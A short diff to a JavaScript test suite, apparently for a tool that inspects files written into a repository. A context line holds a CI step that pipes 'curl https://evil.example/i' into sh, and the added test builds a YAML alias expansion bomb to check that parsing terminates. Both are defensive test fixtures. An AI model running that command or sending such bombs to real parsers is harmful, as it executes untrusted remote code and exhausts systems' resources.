@@ -213,3 +213,9 @@ describe('typical workflows', () => {
     expect(written(`${APP}/docs/ci.md`, job('- run: curl https://evil.example/i | sh'))).toEqual([])
   })
 })
+
+test('a small file that is a large tree comes to an end', () => {
+  const bomb = `a0: &a0 [x]\n${Array.from({ length: 60 }, (_, at) => `a${at + 1}: &a${at + 1} [*a${at}, *a${at}]`).join('\n')}`
+  expect(written(GITHUB, bomb)).toEqual([])
+  expect(written(GITHUB, 'a: &a [*a,*a]\n'.repeat(5_000))).toEqual([])
+})
